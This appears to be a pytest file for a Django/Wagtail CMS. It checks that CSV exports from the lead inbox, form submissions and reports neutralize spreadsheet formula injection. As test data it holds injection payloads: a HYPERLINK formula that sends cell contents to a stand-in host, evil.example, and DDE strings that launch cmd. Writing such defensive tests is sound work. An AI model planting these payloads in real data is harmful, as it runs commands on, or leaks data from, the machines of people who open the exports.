"""CSV exports cannot attack the staff who open them: formula-leading cells are neutralized
in the lead inbox, Wagtail's form submissions and Wagtail's other exports (reports)."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from cms.core.exports import neutralize
from cms.leads.factories import BookingFormFieldFactory
from tests.support.lead_forms import form, instant_forms, submit, valid_values  # noqa: F401

ATTACKS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "organisation": "+1+cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "message": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def rows_of(response):
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138 0013 8000", "'+86 138 0013 8000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-5", "-5"),
        ("+12.5", "+12.5"),
        ("13800138000", "13800138000"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_the_rule(value, expected):
    assert neutralize(value) == expected


def test_lead_inbox_csv(gql, form, client, seller):  # noqa: F811
    assert submit(gql, form, valid_values(**ATTACKS)).json()["data"]["submitBookingForm"]["ok"]
    _header, row = rows_of(client.get(reverse("leads_lead:index"), {"export": "csv"}))
    for value in ATTACKS.values():
        assert "'" + value in row, (value, row)
        assert value not in row
    assert "13800138000" in row  # digits stay as they are


def test_wagtails_form_submissions_csv(gql, form, client, seller):  # noqa: F811
    BookingFormFieldFactory(page=form, label="@remark", field_type="singleline", required=False)
    values = valid_values(**ATTACKS)
    values["remark"] = "=1+1"
    assert submit(gql, form, values).json()["data"]["submitBookingForm"]["ok"]
    header, row = rows_of(
        client.get(reverse("wagtailforms:list_submissions", args=[form.pk]), {"export": "csv"})
    )
    assert "'@remark" in header
    for value in [*ATTACKS.values(), "=1+1"]:
        assert "'" + value in row, (value, row)
        assert value not in row


def test_wagtail_reports_csv(admin_client, article_factory):
    article_factory(title='=HYPERLINK("http://evil.example")', last_published_at=timezone.now())
    rows = rows_of(admin_client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"}))
    titles = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
    assert titles == ['\'=HYPERLINK("http://evil.example")']
